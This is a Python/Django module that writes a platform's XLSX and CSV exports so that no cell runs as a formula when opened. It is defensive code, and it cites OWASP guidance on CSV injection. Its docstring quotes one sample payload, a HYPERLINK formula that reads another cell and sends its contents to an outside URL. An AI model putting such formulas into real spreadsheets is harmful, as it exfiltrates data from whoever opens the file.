"""Every spreadsheet the platform hands out is written here, so that none runs code when opened.

Officers open exports in Excel or WPS, where a cell whose text starts with ``=`` (and, in CSV, also
``+ - @``, tab or carriage return) becomes a live formula: a name typed as
``=HYPERLINK("http://…?"&C4,"点击核对")`` would read the next cell and send it away. So:

- XLSX: the workbook never turns text into formulas, URLs or numbers (``strings_to_formulas``,
  ``strings_to_urls``, ``strings_to_numbers`` all off), and `XlsxExport.write` writes text with
  ``write_string``, numbers and dates typed. A formula cell exists only where the code writes one
  on purpose (the import template's drop-down lists are data validations, not cells).
- CSV: a text cell starting with one of those characters is prefixed with a single quote, and every
  cell is quoted (OWASP, "CSV Injection"). Numbers stay numbers.

Each export registers its name here (`register_export`) and opens its workbook or CSV with that
name; tests/test_exports_safe.py downloads every registered export through its public path and
fails on a registered export it does not know, and on any spreadsheet writer used outside this
module.
"""

from __future__ import annotations

import csv
import datetime as dt
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass
from decimal import Decimal
from typing import IO, Any

import xlsxwriter
from django.http import FileResponse, HttpResponse, StreamingHttpResponse
from django.http.response import HttpResponseBase
from django.utils import timezone
from django.utils.http import content_disposition_header
from xlsxwriter.format import Format
from xlsxwriter.worksheet import Worksheet

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
EXCEL_MAX_ROWS = 1_048_576  # rows in one sheet, header included

# A CSV cell starting with any of these is a formula to Excel, WPS, LibreOffice or Google Sheets.
CSV_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_HEADER_FORMAT = {"bold": True, "bg_color": "#DDEBF7", "border": 1}


@dataclass(frozen=True)
class ExportKind:
    name: str  # "<app>.<what>", e.g. "members.roll"
    title: str  # what it is, for people reading the registry


EXPORTS: dict[str, ExportKind] = {}


def register_export(name: str, title: str) -> str:
    """Declare an export; its workbook or CSV can only be opened under a registered name."""
    EXPORTS[name] = ExportKind(name=name, title=title)
    return name


def _registered(export: str) -> None:
    if export not in EXPORTS:
        raise LookupError(f"export {export!r} is not registered (core.exports.register_export)")


# ---- XLSX --------------------------------------------------------------------------------------


class XlsxExport:
    """An XLSX workbook that writes text as text. `big`: rows stream to disk as they are written
    (xlsxwriter's constant_memory: each row must be complete before the next one starts)."""

    def __init__(self, out: str | IO[bytes], *, export: str, big: bool = False) -> None:
        _registered(export)
        options: dict[str, Any] = {
            "strings_to_formulas": False,
            "strings_to_urls": False,
            "strings_to_numbers": False,
        }
        options["constant_memory" if big else "in_memory"] = True
        self.book = xlsxwriter.Workbook(out, options)
        self.header = self.book.add_format(_HEADER_FORMAT)
        self.date = self.book.add_format({"num_format": "yyyy-mm-dd"})
        self.datetime = self.book.add_format({"num_format": "yyyy-mm-dd hh:mm"})

    def add_format(self, properties: dict[str, Any]) -> Format:
        return self.book.add_format(properties)

    def add_sheet(
        self,
        title: str,
        headers: Sequence[str] = (),
        *,
        widths: Sequence[float] | dict[int, float] = (),
        header_row: int = 0,
        header_format: Format | None = None,
        column_formats: dict[int, Format] | None = None,
    ) -> Worksheet:
        """A sheet with its header row written in bold and frozen, and the column widths set."""
        sheet = self.book.add_worksheet(title)
        width_of = dict(enumerate(widths)) if not isinstance(widths, dict) else widths
        formats = column_formats or {}
        for col in sorted({*width_of, *formats}):
            sheet.set_column(col, col, width_of.get(col, 12), formats.get(col))
        if headers:
            for col, header in enumerate(headers):
                sheet.write_string(header_row, col, str(header), header_format or self.header)
            sheet.freeze_panes(header_row + 1, 0)
        return sheet

    def write(self, sheet: Worksheet, row: int, col: int, value: Any, fmt: Format | None = None) -> None:
        """One cell, typed by its value: text always as text, numbers and dates as themselves."""
        if type(value) is str:  # the common case first: exports are mostly text
            sheet.write_string(row, col, value, fmt)
        elif value is None:
            sheet.write_blank(row, col, None, fmt)
        elif isinstance(value, bool):
            sheet.write_boolean(row, col, value, fmt)
        elif isinstance(value, int | float | Decimal):
            sheet.write_number(row, col, float(value), fmt)
        elif isinstance(value, dt.datetime):
            if timezone.is_aware(value):
                value = timezone.make_naive(value)
            sheet.write_datetime(row, col, value, fmt or self.datetime)
        elif isinstance(value, dt.date):
            sheet.write_datetime(row, col, value, fmt or self.date)
        else:
            sheet.write_string(row, col, str(value), fmt)

    def write_row(self, sheet: Worksheet, row: int, values: Iterable[Any], fmt: Format | None = None) -> None:
        for col, value in enumerate(values):
            self.write(sheet, row, col, value, fmt)

    def close(self) -> None:
        self.book.close()


def xlsx_response(body: bytes | IO[bytes], *, filename: str) -> HttpResponseBase:
    """An XLSX download: bytes, or a file object that the response closes when sent."""
    response: HttpResponseBase
    if isinstance(body, bytes):
        response = HttpResponse(body, content_type=XLSX_CONTENT_TYPE)
    else:
        response = FileResponse(body, content_type=XLSX_CONTENT_TYPE)
    return _download(response, filename)


def _download(response: HttpResponseBase, filename: str):
    # filename= for old clients, filename*=UTF-8'' for the Chinese name (RFC 6266).
    response["Content-Disposition"] = content_disposition_header(True, filename)
    response["Cache-Control"] = "private, no-store"
    response["X-Content-Type-Options"] = "nosniff"
    return response


# ---- CSV ---------------------------------------------------------------------------------------


def csv_cell(value: Any) -> Any:
    """A cell as it may go into a CSV: text that a spreadsheet would run as a formula gets a
    leading single quote; numbers, dates and other text are left alone."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, dt.datetime):
        return (timezone.localtime(value) if timezone.is_aware(value) else value).strftime("%Y-%m-%d %H:%M:%S")
    if isinstance(value, dt.date):
        return value.isoformat()
    text = str(value)
    return "'" + text if text.startswith(CSV_FORMULA_STARTS) else text


class _Line:
    """The file object csv.writer writes to: hands back the line just written."""

    def write(self, text: str) -> str:
        return text


def csv_lines(headers: Sequence[str], rows: Iterable[Sequence[Any]], *, export: str) -> Iterator[str]:
    """The CSV text, one line at a time: a byte-order mark (Excel then reads UTF-8 Chinese), the
    header, the rows; every cell quoted and neutralised by `csv_cell`."""
    _registered(export)  # here, not when the first line is read: a response must not fail halfway
    return _csv_lines(headers, rows)


def _csv_lines(headers: Sequence[str], rows: Iterable[Sequence[Any]]) -> Iterator[str]:
    writer = csv.writer(_Line(), quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    yield "\ufeff" + writer.writerow([csv_cell(h) for h in headers])
    for row in rows:
        yield writer.writerow([csv_cell(value) for value in row])


def csv_response(
    headers: Sequence[str], rows: Iterable[Sequence[Any]], *, export: str, filename: str
) -> StreamingHttpResponse:
    """A CSV download streamed as the rows are read (nothing held in memory but one line)."""
    lines = csv_lines(headers, rows, export=export)
    response = StreamingHttpResponse((line.encode("utf-8") for line in lines), content_type=CSV_CONTENT_TYPE)
    return _download(response, filename)
